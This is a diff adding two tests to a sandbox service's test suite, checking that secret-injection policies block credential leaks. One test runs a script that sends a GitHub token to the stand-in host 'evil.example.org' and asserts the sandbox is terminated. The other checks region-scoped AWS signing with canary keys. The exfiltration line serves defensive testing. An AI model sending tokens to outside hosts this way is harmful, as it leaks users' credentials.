@@ -169,6 +169,38 @@ class Stage(Served):
             self.assertEqual(ask(), ["503 denied; reason=secret_no_value"])
             self.assertEqual(self.received("good"), b"")
 
+    def test_a_misuse_may_end_the_sandbox(self):
+        self.kept()
+        spec = self.spec()
+        spec["network"]["secrets"]["gh"]["on_violation"] = "terminate"
+        identity = self.ask("POST", "/v1/sandboxes", {"spec": spec}, 201)["id"]
+        self.assertEqual(self.inside(identity, ASK, 'os.environ["GH_TOKEN"]'), ["200 "])
+        script = PYTHON + 'print(why(request("evil.example.org", headers={"Authorization": token})))'
+        done = self.ask("POST", f"/v1/sandboxes/{identity}/exec", {"command": ["python3", "-c", script]}, 200)
+        verdict = done[-1]["end"]["verdict"]
+        self.assertEqual((verdict["kind"], verdict["cause"], "on_violation: terminate" in verdict["message"]), ("policy_violation", "secret", True), done)
+        self.assertEqual([line for line in done if "stdout" in line], [])
+        # The command is told first.
+        self.assertTrue(harness.wait_until(lambda: self.ask("GET", f"/v1/sandboxes/{identity}").get("code") == 404, 20))
+        self.assertEqual(self.received("evil"), b"")
+
+    def test_requests_are_signed_with_what_is_kept(self):
+        """Both parts of the credentials; what curl signs with the placeholders comes with the access key that is kept."""
+        access, key = "AKIACANARYCANARY2345", "canaryCANARY/canaryCANARY+canary01234567"
+        self.kept("access", access)
+        self.kept("key", key)
+        spec = {"image": "base", "network": {"rules": [{"hosts": ["api.example.com"]}], "secrets": {"aws": {
+            "kind": "sigv4", "access_key": {"vault": "access"}, "secret_key": {"vault": "key"}, "hosts": ["api.example.com"],
+            "services": ["s3"], "regions": ["eu-central-1"]}}}}
+        with self.sandbox("/v1/sandboxes", spec=spec) as sandbox:
+            script = """curl -sS -o /dev/null -w '%{http_code}' --aws-sigv4 "aws:amz:$1:s3" -H 'x-amz-content-sha256: UNSIGNED-PAYLOAD' --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://api.example.com/all"""
+            for region, wanted in (("eu-central-1", "200"), ("us-east-1", "403")):
+                self.forget()
+                done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["bash", "-c", script, "sh", region]}, 200)
+                self.assertEqual("".join(line.get("stdout", "") for line in done), wanted, done)
+                self.assertEqual(f"Credential={access}/".encode() in self.received("good"), wanted == "200", self.received("good"))
+                self.assertNotIn(key.encode(), self.received("good"))
+
     def test_a_fork_has_the_placeholder_and_the_secret(self):
         self.kept()
         with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
